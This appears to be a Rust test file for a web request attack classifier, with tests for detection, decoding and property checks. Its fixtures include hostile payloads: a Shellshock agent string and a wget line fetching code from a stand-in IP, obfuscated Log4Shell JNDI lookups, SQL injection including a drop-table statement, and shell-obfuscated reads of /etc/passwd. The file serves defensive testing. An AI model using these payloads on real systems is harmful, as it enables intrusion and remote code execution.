//! Each class: what must fire, what looks like it and must not, and what holds for any bytes.

mod cases;

use proptest::prelude::*;

use self::cases::{FIRING, HONEST};
use super::class::{CLASSES, Class, Classes};
use super::matcher::{Candidates, MATCHER};
use super::payload::{On, patterns};
use super::request::{Request, Scratch, Signs, examine};
use super::view::{Shape, View};

fn signs_of(request: &Request<'_>) -> Signs {
    examine(request, &mut Scratch::default())
}

fn classes_of_target(target: &str) -> Classes {
    signs_of(&Request { method: b"GET", target: target.as_bytes(), ..Request::default() }).classes
}

fn names(classes: Classes) -> Vec<&'static str> {
    classes.iter().map(Class::name).collect()
}

#[test]
fn each_class_fires_on_its_attacks() {
    let mut missed = Vec::new();
    for (class, targets) in FIRING {
        for target in *targets {
            let classes = classes_of_target(target);
            if !classes.has(*class) {
                missed.push(format!("{}: {target}: {:?}", class.name(), names(classes)));
            }
        }
    }
    assert!(missed.is_empty(), "\n{}", missed.join("\n"));
}

#[test]
fn every_class_has_a_case() {
    for entry in CLASSES {
        let has = FIRING.iter().any(|(class, _)| *class == entry.class);
        // These two are not told by a target.
        let apart = matches!(entry.class, Class::Scanner | Class::Protocol);
        assert!(has || apart, "{}", entry.name);
    }
}

#[test]
fn honest_requests_are_of_no_class() {
    let mut wrong = Vec::new();
    for target in HONEST {
        let classes = classes_of_target(target);
        if !classes.is_empty() {
            wrong.push(format!("{target}: {:?}", names(classes)));
        }
    }
    assert!(wrong.is_empty(), "\n{}", wrong.join("\n"));
}

#[track_caller]
fn check_agent(agent: &str, expected: &[&str]) {
    let classes = signs_of(&Request { agent: agent.as_bytes(), ..Request::default() }).classes;
    assert_eq!(expected, names(classes), "{agent}");
}

#[test]
fn agents_of_scanners_are_told_from_those_of_people_and_libraries() {
    check_agent("sqlmap/1.8.3#stable (https://sqlmap.org)", &["scanner"]);
    check_agent("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)", &["scanner"]);
    check_agent(
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        &["scanner"],
    );
    check_agent("Mozilla/5.0 zgrab/0.x", &["scanner"]);
    check_agent("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", &[]);
    check_agent(
        "Mozilla/5.0 (iPhone; U; CPU iPhone OS 5_0 like Mac OS X; id) AppleWebKit/605.1.15",
        &[],
    );
    check_agent(
        "Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119 Version/11.10",
        &[],
    );
    check_agent("curl/8.5.0", &[]);
    check_agent("Wget/1.21.4 (linux-gnu)", &[]);
    check_agent("python-requests/2.31.0", &[]);
    check_agent("python-httpx/0.27.0", &[]);
    check_agent("Snap URL Preview Service; bot; snapchat; https://developers.snap.com/robots", &[]);
    check_agent("ecairn-grabber/1.0 (+http://ecairn.com/grabber)", &[]);
    check_agent("SonicWALL's Agent", &[]);
    check_agent("Organizapp/2.0 (Dornikton; rv:1)", &[]);
}

#[test]
fn attacks_in_agents_are_told() {
    check_agent("() { :;}; /bin/bash -c \"curl http://203.0.113.9/x\"", &["rce"]);
    check_agent(";wget http://203.0.113.9/x", &["rce"]);
    check_agent("`id`", &["rce"]);
    check_agent("${jndi:ldap://203.0.113.9/a}", &["jndi", "cve"]);
    check_agent("Mozilla/5.0\x1b[2J", &["log_injection"]);
    check_agent("<script>alert(1)</script>", &["xss"]);
}

#[test]
fn a_referrer_from_a_search_is_no_attack() {
    for referrer in [
        "https://www.example.com/search?q=union+select+injection+tutorial",
        "https://www.example.com/search?q=what+is+%2Fetc%2Fpasswd",
        "https://www.example.com/search?q=%22javascript%3Aalert%22+xss",
        "https://www.example.com/search?q=java.lang.NullPointerException",
        "https://www.example.com/url?sa=t&q=&esrc=s&url=http%3A%2F%2Fwww.example.org%2Fa%27b",
        "https://www.example.com/#:~:text=Inoltre%2C%20non%",
        "android-app://com.example.browser/",
    ] {
        let signs = signs_of(&Request { referrer: referrer.as_bytes(), ..Request::default() });
        assert!(signs.classes.is_empty(), "{referrer}: {:?}", names(signs.classes));
    }
}

#[test]
fn a_user_name_may_be_an_attack() {
    let classes = |user: &str| {
        names(signs_of(&Request { user: user.as_bytes(), ..Request::default() }).classes)
    };
    assert_eq!(["sqli"], classes("admin' or '1'='1")[..]);
    assert_eq!(["log_injection"], classes("alice\nroot")[..]);
    for honest in
        ["O'Brien", "alice@example.org", "EXAMPLE\\alice", "M\u{fc}ller, J\u{fc}rgen", "-"]
    {
        assert!(classes(honest).is_empty(), "{honest}: {:?}", classes(honest));
    }
}

#[test]
fn methods_that_no_site_needs_are_told() {
    let classes = |method: &str| {
        let (method, is_origin) = (method.as_bytes(), true);
        let request = Request { method, target: b"/", is_origin, ..Request::default() };
        names(signs_of(&request).classes)
    };
    for known in ["GET", "POST", "HEAD", "OPTIONS", "PROPFIND", "PATCH", "PURGE", "REPORT"] {
        assert!(classes(known).is_empty(), "{known}");
    }
    for odd in ["CONNECT", "TRACE", "TRACK", "DEBUG", "GETS", "get", "JKLM"] {
        assert_eq!(["protocol"], classes(odd)[..], "{odd}");
    }
    // Proxies tunnel all day.
    let tunnel = Request { method: b"CONNECT", target: b"example.org:443", ..Request::default() };
    assert!(signs_of(&tunnel).classes.is_empty());
}

#[test]
fn a_weakness_is_named_for_its_method_only() {
    let cve = |method: &str, target: &str| {
        let (method, target) = (method.as_bytes(), target.as_bytes());
        signs_of(&Request { method, target, ..Request::default() }).cve()
    };
    assert_eq!(Some("CVE-2022-22963"), cve("POST", "/functionRouter"));
    assert_eq!(None, cve("GET", "/functionRouter"));
    assert_eq!(Some("CVE-2019-19781"), cve("GET", "/vpn/../vpns/cfg/smb.conf"));
    assert_eq!(Some("CVE-2019-19781"), cve("GET", "/vpn/%2e%2e/vpns/cfg/smb.conf"));
    assert_eq!(None, cve("GET", "/vpns/"));
    assert_eq!(Some("CVE-2017-12615"), cve("PUT", "/shell.jsp/"));
    assert_eq!(None, cve("GET", "/list.jsp/"));
    let agent = b"${${::-j}${::-n}${::-d}${::-i}:ldap://203.0.113.9/a}";
    let signs = signs_of(&Request { target: b"/", agent, ..Request::default() });
    assert_eq!(Some("CVE-2021-44228"), signs.cve());
}

fn view(text: &[u8], shape: Shape) -> String {
    let mut view = View::default();
    view.read(text, shape);
    String::from_utf8_lossy(view.text()).into_owned()
}

#[track_caller]
fn check_view(text: &str, expected: &str) {
    assert_eq!(expected, view(text.as_bytes(), Shape::Text), "{text}");
}

#[test]
fn the_view_undoes_what_hides_a_payload() {
    check_view("%41%62", "ab");
    check_view("%2541", "a");
    check_view("%252541", "%41");
    check_view("%u0041%U0062", "ab");
    check_view("100% %zz %2", "100% %zz %2");
    check_view("%c0%af %e0%80%af %f0%80%80%af", "/ / /");
    check_view("&lt;a&#62;&#x3C;&#0000060&COLON;&unknown;&", "<a><<:&unknown;&");
    check_view("\\x41\\u0042\\u{43}\\q", "abc\\q");
    check_view("\u{ff1c}\u{ff21}\u{ff1e}", "<a>");
    check_view("\u{2019}\u{201c}", "'\"");
    check_view("a \t\x0b b\u{a0}c", "a b c");
    check_view("a\r\n \nb", "a\nb");
    check_view("a\0b", "ab");
    check_view("a/**/b/*x y*/c/*!50000d*/e", "a b c d e");
    check_view("a/*b", "a/*b");
    check_view("/*<script>*/", "/*<script>*/");
    check_view("/a/*/b/*/c", "/a/*/b/*/c");
    check_view("\u{1}\u{2}", " ");
}

#[test]
fn an_address_shows_where_its_parameters_are() {
    let address = |text: &str| view(text.as_bytes(), Shape::Address);
    assert_eq!("/a+b\u{1}x\u{2}1 2\u{1}y\u{2}a=b\u{1}z", address("/a+b?x=1+2&y=a=b&z"));
    assert_eq!("/\u{1}x\u{2}a&b+c", address("/?x=a%26b%2Bc"));
    assert_eq!("/\u{1}1'or'1'='1", address("/?1'or'1'='1"));
    assert_eq!("/\u{1}x\u{2} y", address("/?x=%01%02y"));
}

#[test]
fn a_shell_passes_over_quotes_and_empty_variables() {
    let squeezed = |text: &str| {
        let (mut view, mut out) = (View::default(), Vec::new());
        view.read(text.as_bytes(), Shape::Text);
        view.squeeze(&mut out).then(|| String::from_utf8_lossy(&out).into_owned())
    };
    assert_eq!(Some("cat /etc/passwd".to_owned()), squeezed("c\\a't' /e\"tc\"/pas$@swd"));
    assert_eq!(Some("cat /etc/passwd".to_owned()), squeezed("cat$IFS/etc/pa[s]sw$u\\d"));
    assert_eq!(Some("$(id)".to_owned()), squeezed("$(i''d)"));
    assert_eq!(None, squeezed("cat /etc/passwd"));
}

#[test]
fn every_need_is_met_by_each_match_of_its_pattern() {
    let (mut scratch, mut found) = (View::default(), Candidates::default());
    let attacks = FIRING.iter().flat_map(|(_, targets)| targets.iter());
    for target in attacks.chain(HONEST) {
        scratch.read(target.as_bytes(), Shape::Address);
        check_against_all(scratch.text(), &mut found);
    }
}

/// What the automaton leads to is what running every pattern finds.
fn check_against_all(view: &[u8], found: &mut Candidates) {
    MATCHER.candidates(view, found);
    for on in [On::Target, On::Every, On::Shell] {
        let quick = MATCHER.classes(found, on, view);
        let mut every = Candidates::default();
        every.add_all();
        let slow = MATCHER.classes(&every, on, view);
        assert_eq!(names(slow), names(quick), "{}", String::from_utf8_lossy(view));
    }
}

#[test]
fn the_lists_are_short_lower_case_and_have_no_entry_twice() {
    use super::{agents::AGENTS, cves::CVES, paths::PATHS};
    assert!(PATHS.len() <= 150 && AGENTS.len() <= 60 && patterns().count() <= 120);
    let texts = PATHS.iter().chain(AGENTS).chain(CVES.iter().flat_map(|cve| cve.texts));
    assert!(texts.clone().all(|text| !text.bytes().any(|byte| byte.is_ascii_uppercase())));
    for list in [PATHS, AGENTS] {
        let mut sorted = list.to_vec();
        sorted.sort_unstable();
        sorted.dedup();
        assert_eq!(list.len(), sorted.len());
    }
    assert!(PATHS.iter().all(|path| path.starts_with('/')));
}

/// Signs that attacks are made of.
#[rustfmt::skip]
const WORDS: &[&[u8]] = &[
    b"%", b"%25", b"%27", b"%3c", b"%0a", b"%c0%af", b"'", b"\"", b"`", b"<", b">", b"(", b")",
    b";", b"|", b"&", b"$", b"{", b"}", b"[", b"]", b"/*", b"*/", b"/*!5", b"--", b"#", b"=",
    b"?", b"+", b" ", b"\n", b"../", b"\\", b"select", b"union", b"or", b"and", b"1", b"script",
    b"on", b"error", b"alert", b"cat", b"/etc/", b"passwd", b"id", b"jndi", b"http://",
    b"system", b"$_", b"&lt", b"&#60;", b"\\u003c", b"\\x3c", b"\0", b"\xff", b"\xc0\xae",
    b"\xe2\x80\xae", b"\xef\xbc\x9c", b".", b"/", b"a", b"x",
];

/// Text with such signs.
fn any_text() -> impl Strategy<Value = Vec<u8>> {
    let word = prop_oneof![
        proptest::sample::select(WORDS).prop_map(<[u8]>::to_vec),
        proptest::collection::vec(any::<u8>(), 0..4),
    ];
    let words = proptest::collection::vec(word, 0..40).prop_map(|words| words.concat());
    prop_oneof![words, spliced()]
}

/// The beginning of one case and the end of another.
fn spliced() -> impl Strategy<Value = Vec<u8>> {
    let attacks = FIRING.iter().flat_map(|(_, targets)| targets.iter());
    let cases: Vec<&'static str> = attacks.chain(HONEST).copied().collect();
    let case = proptest::sample::select(cases);
    (case.clone(), case, any::<(u8, u8)>()).prop_map(|(first, second, (cut, from))| {
        let (first, second) = (first.as_bytes(), second.as_bytes());
        let (cut, from) = (usize::from(cut).min(first.len()), usize::from(from).min(second.len()));
        [&first[..cut], &second[from..]].concat()
    })
}

proptest! {
    #[test]
    fn the_short_way_to_the_view_of_an_address_leads_to_the_same(
        address in "[a-cA-C0/._=&?~,@:-]{0,40}",
    ) {
        let (mut short, mut long) = (View::default(), View::default());
        short.read(address.as_bytes(), Shape::Address);
        long.decode(address.as_bytes(), Shape::Address);
        prop_assert_eq!(short.text(), long.text());
        prop_assert_eq!(short.marks, long.marks);
    }
}

proptest! {
    #[test]
    fn any_bytes_are_looked_at_without_harm(
        target in any_text(),
        agent in any_text(),
        user in any_text(),
    ) {
        let request = Request {
            target: &target,
            referrer: &target,
            agent: &agent,
            user: &user,
            ..Request::default()
        };
        let mut scratch = Scratch::default();
        let first = examine(&request, &mut scratch);
        prop_assert_eq!(first, examine(&request, &mut scratch), "buffers leave nothing behind");
    }

    #[test]
    fn the_automaton_leads_to_all_that_the_patterns_find(text in any_text()) {
        let (mut view, mut found) = (View::default(), Candidates::default());
        for shape in [Shape::Address, Shape::Text] {
            view.read(&text, shape);
            check_against_all(view.text(), &mut found);
        }
    }

    #[test]
    fn a_view_is_never_longer_than_its_field_and_a_plain_one_is_its_own(text in any_text()) {
        let mut view = View::default();
        view.read(&text, Shape::Text);
        prop_assert!(view.text().len() <= text.len());
        let plain = view.text().to_vec();
        let leaves = !plain.iter().any(|byte| matches!(byte, b'%' | b'&' | b'\\' | b'*' | 0x80..));
        if leaves {
            view.read(&plain, Shape::Text);
            prop_assert_eq!(&plain, view.text());
        }
    }

    #[test]
    fn what_is_encoded_once_or_twice_is_told_as_it_is_plainly(number in 0..FIRING_SQL.len()) {
        let encode = |text: &str| -> String {
            text.bytes().map(|byte| format!("%{byte:02x}")).collect()
        };
        let plain = FIRING_SQL[number];
        let (once, twice) = (encode(plain), encode(&encode(plain)));
        for value in [once, twice] {
            let classes = classes_of_target(&format!("/a?x={value}"));
            prop_assert!(classes.has(Class::Sqli), "{}", plain);
        }
    }
}

const FIRING_SQL: &[&str] =
    &["1' or '1'='1", "1 union select null,null--", "1; drop table members"];
